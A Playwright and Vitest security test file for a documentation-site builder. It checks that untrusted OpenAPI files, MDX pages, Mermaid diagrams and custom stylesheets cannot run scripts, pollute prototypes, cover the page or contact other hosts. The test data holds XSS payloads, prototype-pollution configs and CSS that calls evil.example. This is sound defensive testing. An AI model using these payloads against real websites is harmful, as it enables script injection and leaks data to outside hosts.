import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { openDiskFiles } from '../../../src/files/disk-files.ts'
import { readSiteAssets } from '../../../src/site/make/assets/read-site-assets.ts'
import { startPreview } from '../../../src/site/preview/start-preview.ts'
import { launchBrowser } from '../../support/browser.ts'
import { documentOfTexts, hostileConfig, hostilePage } from '../../support/hostile-inputs.ts'
import { hostileTexts } from '../../support/hostile-strings.ts'
import { makeTemporaryFolder } from '../../support/temporary-folder.ts'
import { collectBrowserErrors, serveSite } from './api/serve-site.ts'

// Untrusted OpenAPI documents, docs.json, frontmatter and MDX, and the search, Markdown and preview hints derived from them.

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser?.close())

async function openPage(): Promise<Page> {
  const context = await browser.newContext({ reducedMotion: 'reduce' })
  onTestFinished(() => context.close())
  return context.newPage()
}

/** Finds signs of injected content on a page. */
const look = () => {
  for (const details of document.querySelectorAll('details:not(.menu, .drawer)')) details.setAttribute('open', '')
  const attributes = [...document.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].map(({ name, value }) => ({ name, value, html: element.outerHTML.slice(0, 200) })),
  )
  // Structured data, which is not executed. A page has at most one element with it.
  const data = [...document.scripts].filter(({ type }) => type === 'application/ld+json')
  return {
    hacked: 'hacked' in window,
    scripts: [...document.scripts].filter((script) => !data.includes(script) && !script.src.startsWith(location.origin)).length,
    isData: data.length <= 1 && data.every(({ textContent }) => typeof JSON.parse(textContent) === 'object'),
    handlers: attributes
      .filter(({ name }) => name.startsWith('on') || name === 'style' || name === 'srcdoc' || name === 'formaction')
      .map(({ html }) => html),
    urls: attributes
      .filter(({ name, value }) => /^(?:href|src|action)$/.test(name) && /^\s*(?:javascript|vbscript|data:text)/i.test(value))
      .map(({ html }) => html),
    injected: [
      ...document.querySelectorAll(':is(iframe, base, style, form:not([role=search]), object, embed), meta[http-equiv=refresh]'),
    ].map((element) => element.outerHTML.slice(0, 200)),
    isWhole: document.querySelector('main h1') !== null && document.body.lastElementChild !== null,
  }
}
const clean = { hacked: false, scripts: 0, isData: true, handlers: [], urls: [], injected: [], isWhole: true }

test('untrusted documents, docs.json settings and pages cannot run code or break a page', async () => {
  const page = await openPage()
  const browserErrors = collectBrowserErrors(page)
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!/^(?:data|blob):/.test(request.url()) && new URL(request.url()).hostname !== '127.0.0.1') foreign.push(request.url())
  })
  for (let start = 0; start < hostileTexts.length; start += 4) {
    const texts = hostileTexts.slice(start, start + 4)
    const shown = texts.map((_, index) => `page-${start + index}`)
    const operations = texts.map((_, index) => `operation-${index}`)
    const site = await serveSite({
      'docs.json': JSON.stringify({ ...hostileConfig(texts, [...shown, ...operations]), api: { openapi: 'openapi.json' } }),
      'openapi.json': JSON.stringify(documentOfTexts(texts)),
      ...Object.fromEntries(operations.map((name, index) => [`${name}.mdx`, `---\nopenapi: POST /p${index}\n---\n`])),
      ...Object.fromEntries(texts.map((text, index) => [`${shown[index]}.mdx`, hostilePage(text)])),
    })
    for (const name of [...shown, ...operations, '404.html', 'print.html', 'search']) {
      await page.goto(`${site.address}/${name}${name.endsWith('.html') ? '' : '/'}`)
      expect({ name, ...(await page.evaluate(look)) }).toEqual({ name, ...clean })
    }
    for (const [path, content] of site.files) {
      if (/\.(?:md|txt|xml)$/.test(path)) expect([path, /[\0-\x08\x0b\x0e-\x1f\x7f]/.test(content)]).toEqual([path, false])
    }
  }
  expect(foreign).toEqual([])
  // Some strings are used as image URLs, which return 404, or as lists of images.
  expect(browserErrors.filter((error) => !/status of 404|srcset|^http:\/\/127\.0\.0\.1:.* failed$/.test(error))).toEqual([])
})

/** Untrusted diagrams, and whether they are drawn. */
const diagrams: readonly (readonly [string, 'drawn' | 'failed'])[] = [
  ['graph LR\nA --> B\nclick A "javascript:window.hacked=1"\nclick B href "https://evil.example/" "tip" _self', 'drawn'],
  ['graph LR\nA --> B\nclick A call alert(1)\nclick B callback "<details ontoggle=window.hacked=1>"', 'drawn'],
  [
    'graph LR\nA["<img src=https://evil.example/a onerror=window.hacked=1>"] --> B["<iframe src=https://evil.example/></iframe>"]',
    'drawn',
  ],
  ['graph LR\nA["<script>window.hacked=1</script><style>body{display:none}</style><svg onload=window.hacked=1>"]', 'drawn'],
  [
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": [], "themeCSS": "} * { background: url(https://evil.example/b) !important } body { display: none", "fontFamily": "x} body {display: none"}}%%\ngraph LR\nA["<b onclick=alert(1)>x</b>"]',
    'drawn',
  ],
  [
    '---\nconfig:\n  __proto__:\n    polluted: 1\n  themeVariables:\n    __proto__:\n      polluted: 1\n---\ngraph LR\nA',
    'drawn',
  ],
  ['%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\ngraph LR\nA', 'drawn'],
  [
    'graph LR\nA --> B\nstyle A position:fixed,inset:0,z-index:9999,mask-image:url(https://evil.example/c),filter:url(https://evil.example/d#e)\nclassDef k fill:url(https://evil.example/f),cursor:url(https://evil.example/g)\nclass B k',
    'failed',
  ],
  [
    'graph LR\nA --> B\nstyle A position:fixed,inset:0,z-index:9999,background:red\nclassDef k position:fixed\nclass B k',
    'drawn',
  ],
  ['graph LR\nA@{ img: "https://evil.example/h.png", label: "<img src=x onerror=window.hacked=1>" }', 'drawn'],
  ['sequenceDiagram\nA->>B: $$\\href{javascript:window.hacked=1}{x}$$\nlink A: Site @ javascript:window.hacked=1', 'drawn'],
  ['graph LR\nA[ --> B', 'failed'],
  ['block-beta\nspace:999999999', 'failed'],
  [`graph LR\n${'a-->b;'.repeat(2000)}`, 'failed'],
]

test('untrusted diagrams cannot run code, load files or leave their box', async () => {
  const page = await openPage()
  const browserErrors = collectBrowserErrors(page)
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!/^(?:data|blob):/.test(request.url()) && new URL(request.url()).hostname !== '127.0.0.1') foreign.push(request.url())
  })
  const fences = diagrams.map(([source]) => `\`\`\`mermaid\n${source}\n\`\`\``)
  const site = await serveSite({
    'docs.json': JSON.stringify({ name: 'Hostile', navigation: { pages: ['index', 'plain'] } }),
    'index.mdx': `# Start\n\n${fences.join('\n\n')}\n\n<Tabs><Tab title="One">1</Tab><Tab title="Two"><Mermaid chart="graph TD; Hidden --> Shown" /></Tab></Tabs>\n`,
    'plain.mdx': '# Plain\n',
  })
  expect(site.files.get('plain/index.html')).not.toContain('diagrams')
  await page.goto(`${site.address}/`)
  const states: (readonly [string, string | null])[] = []
  for (const [index, [source]] of diagrams.entries()) {
    const figure = page.locator('.diagram').nth(index)
    await figure.scrollIntoViewIfNeeded()
    await figure.and(page.locator('[data-state=drawn], [data-state=failed]')).waitFor()
    states.push([source, await figure.getAttribute('data-state')])
  }
  expect(states).toEqual(diagrams)
  // The diagram in the closed tab is drawn when the tab is opened.
  const last = page.locator('.diagram').last()
  expect(await last.getAttribute('data-state')).toBe('waiting')
  await page.getByText('Two', { exact: true }).click()
  await last.locator('img[alt="Flowchart: Hidden, Shown"]').waitFor()
  expect(await page.evaluate(look)).toEqual(clean)
  const left = await page.evaluate(() => ({
    polluted: 'polluted' in {},
    stages: document.querySelectorAll('.diagram-stage').length,
    sheets: document.adoptedStyleSheets.length,
    isNative: String(Element.prototype.setAttribute).includes('[native code]'),
    isVisible: document.querySelector('h1')?.checkVisibility(),
  }))
  expect(left).toEqual({ polluted: false, stages: 0, sheets: 0, isNative: true, isVisible: true })
  expect({ foreign, browserErrors }).toEqual({ foreign: [], browserErrors: [] })
})

test('the search shows untrusted results as text', async () => {
  const names = hostileTexts.map((_, index) => `page-${index}`)
  const site = await serveSite({
    'docs.json': JSON.stringify({ name: 'Hostile', navigation: { pages: names } }),
    ...Object.fromEntries(
      names.map((name, index) => [
        `${name}.mdx`,
        `---\ntitle: ${JSON.stringify(`needle ${hostileTexts[index]}`)}\n---\n\n## needle\n\nneedle\n`,
      ]),
    ),
  })
  const page = await openPage()
  const browserErrors = collectBrowserErrors(page)
  await page.goto(`${site.address}/page-0/`)
  const status = page.locator('dialog').getByRole('status')
  const noQuery = 'First pages'
  for (const query of ['needle', ...hostileTexts.slice(0, 4)]) {
    await page.keyboard.press('Control+k')
    await page.locator('dialog input').fill('')
    await expect.poll(() => status.textContent()).toBe(noQuery)
    await page.locator('dialog input').fill(query)
    // The results replace this hint.
    await expect.poll(() => status.textContent()).not.toBe(noQuery)
    if (query === 'needle') await page.locator('dialog a').first().waitFor()
    expect({ query, ...(await page.evaluate(look)) }).toEqual({ query, ...clean })
    await page.keyboard.press('Escape')
  }
  expect(browserErrors).toEqual([])
})

test('the preview shows untrusted messages as text', async () => {
  const folder = makeTemporaryFolder({
    'docs.json': JSON.stringify({ name: 'Hostile', navigation: { pages: ['index'], openapi: 'openapi.json' } }),
    'index.mdx': `---\ntitle: Start\nopenapi: GET /<script>window.hacked=1</script>\n---\n\n<Foo title="<img src=x onerror=window.hacked=1>">\n\n${hostileTexts.join('\n\n')}\n`,
    'openapi.json': JSON.stringify(
      { openapi: '3.1.0', info: {}, paths: Object.fromEntries(hostileTexts.map((text) => [`/${text}`, { [text]: text }])) },
      null,
      1,
    ),
  })
  const assets = readSiteAssets()
  const preview = await startPreview(
    {
      root: '',
      assets: assets.paths,
      host: '127.0.0.1',
      port: 0,
      watched: folder,
      files: { site: [...assets.files, ...assets.readDiagrams()], preview: assets.preview },
      onReading: () => {},
      onPage: () => {},
    },
    async () => ({ access: { files: openDiskFiles(folder), fetchDocument: (url) => Promise.reject(new Error(url)) } }),
  )
  onTestFinished(() => preview.close())
  const page = await openPage()
  const browserErrors = collectBrowserErrors(page)
  await page.goto(`http://127.0.0.1:${preview.port}/`)
  await page.getByText('openapi.json').first().waitFor()
  expect(await page.evaluate(look)).toEqual(clean)
  expect(browserErrors.filter((error) => !/status of 404/.test(error))).toEqual([])
})

test('a stylesheet of the repository cannot cover the header, change dialogs or load from other hosts', async () => {
  const cover = 'position:absolute!important;inset:-5000px!important;z-index:2147483647!important;background:red!important'
  const site = await serveSite({
    'docs.json': JSON.stringify({ name: 'Hostile', navigation: { pages: ['a'] } }),
    'a.mdx': '<a href="https://evil.example/" className="cover">x</a>\n\ntext',
    'style.css': `
      .cover { ${cover} } .cover::after { content: ""; ${cover.replace('absolute', 'fixed')} }
      article, .prose, #content { contain: none !important; overflow: visible !important; clip-path: none !important; position: static !important }
      dialog, dialog * { display: none !important; background: url(https://evil.example/a) }
      html { background: u\\72l(https://evil.example/b), image-set("https://evil.example/c" 1x); --d: url(https://evil.example/d) }
      input[value^="a"], body { background: var(--d) } @import "https://evil.example/e";
      @font-face { font-family: F; src: url(https://evil.example/f); unicode-range: U+61 } body { font-family: F }
    `,
  })
  const page = await openPage()
  const foreign: string[] = []
  page.on('request', (request) => request.url().includes('evil') && foreign.push(request.url()))
  await page.goto(`${site.address}/a/`)
  const topmost = await page.evaluate(() =>
    ['header.top .brand', 'header.top .find'].map((selector) => {
      const part = document.querySelector(selector)
      const { x = 0, y = 0, width = 0, height = 0 } = part?.getBoundingClientRect() ?? {}
      return part?.contains(document.elementFromPoint(x + width / 2, y + height / 2))
    }),
  )
  expect(topmost).toEqual([true, true])
  // The stylesheet works where it may.
  expect(await page.evaluate(() => getComputedStyle(document.querySelector('.x-cover') ?? document.body).backgroundColor)).toBe(
    'rgb(255, 0, 0)',
  )
  await page.keyboard.press('Control+k')
  await page.locator('dialog input').fill('text')
  await page.locator('dialog a').first().waitFor()
  expect(foreign).toEqual([])
})
